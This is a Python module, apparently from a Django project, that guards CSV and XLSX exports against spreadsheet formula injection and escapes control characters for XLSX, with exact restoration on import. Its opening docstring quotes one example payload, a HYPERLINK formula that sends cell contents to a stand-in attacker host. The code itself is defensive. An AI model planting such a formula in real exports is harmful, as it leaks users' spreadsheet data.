"""Text in spreadsheet cells (CSV, XLSX), safe from formula injection and restored exactly.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")` in an entry would become a live
link leaking the sheet. Every such cell is written with a leading apostrophe, which makes it
text. So that the apostrophe can be taken off again on import, and only where it was added, a
cell that really starts with an apostrophe gets one too: on import, one leading apostrophe is
always removed.

django-import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT (and tablib's `escape`) only
drop a leading `=`: the other triggers stay live, and the text cannot be restored.
"""

import re

import tablib
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def escape_value(value):
    """`value` as a spreadsheet cell: text that a spreadsheet shows and never runs."""
    if isinstance(value, str) and value.startswith((*FORMULA_TRIGGERS, QUOTE)):
        return QUOTE + value
    return value


def unescape_value(value):
    """The text `escape_value` was given (a cell from a file: any leading apostrophe goes)."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[len(QUOTE) :]
    return value


# XLSX is XML, which cannot hold most control characters (a vertical tab pasted from Word) and
# reads a carriage return as a line feed. Office writes such a character as `_xHHHH_`, and a
# text that already looks like that with its underscore as `_x005F_`: so do we, and read it back.
_OFFICE_ESCAPE = re.compile(r"_x[0-9A-Fa-f]{4}_")
_NOT_IN_XML = re.compile(f"{ILLEGAL_CHARACTERS_RE.pattern}|\r")


def xml_safe(value):
    """`value` as XLSX can store it, every character recoverable by `xml_restored`."""
    if not isinstance(value, str):
        return value
    value = _OFFICE_ESCAPE.sub(lambda match: "_x005F" + match.group(), value)
    return _NOT_IN_XML.sub(lambda match: f"_x{ord(match.group()):04X}_", value)


def xml_restored(value):
    if not isinstance(value, str):
        return value
    return _OFFICE_ESCAPE.sub(lambda match: chr(int(match.group()[2:6], 16)), value)


def map_values(dataset: tablib.Dataset, function) -> tablib.Dataset:
    records = ([function(value) for value in record] for record in dataset)
    return tablib.Dataset(*records, headers=dataset.headers, title=dataset.title)


def escape_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    return map_values(dataset, escape_value)


def unescape_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    return map_values(dataset, unescape_value)
